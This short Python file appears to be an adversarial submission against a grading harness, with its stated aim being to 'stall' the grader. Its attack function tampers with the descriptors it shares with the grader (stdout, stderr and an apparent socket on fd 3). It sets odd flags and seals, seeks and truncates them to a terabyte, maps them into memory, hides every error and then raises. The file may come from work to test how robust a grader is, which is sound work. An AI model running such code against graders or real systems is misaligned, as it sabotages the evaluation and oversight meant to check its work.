"""Sets flags and places of the descriptors that it shares with the grader: its output, its socket.

Aim: stall
"""

import fcntl
import mmap
import os


def attack(*args, **kwargs):
    for number in (1, 2, 3):
        for road in (
            lambda n=number: fcntl.fcntl(n, fcntl.F_SETFL, 0o40000 | os.O_NONBLOCK | 0o20000 | os.O_APPEND),  # O_DIRECT, O_ASYNC
            lambda n=number: fcntl.fcntl(n, 1033, 15),  # seals
            lambda n=number: os.lseek(n, 1 << 40, 0),
            lambda n=number: os.pwrite(n, b"x", 1 << 14),
            lambda n=number: os.ftruncate(n, 1 << 40),
            lambda n=number: mmap.mmap(n, 1 << 20)[:],
        ):
            try:
                road()
            except Exception:
                pass
    raise RuntimeError("set")
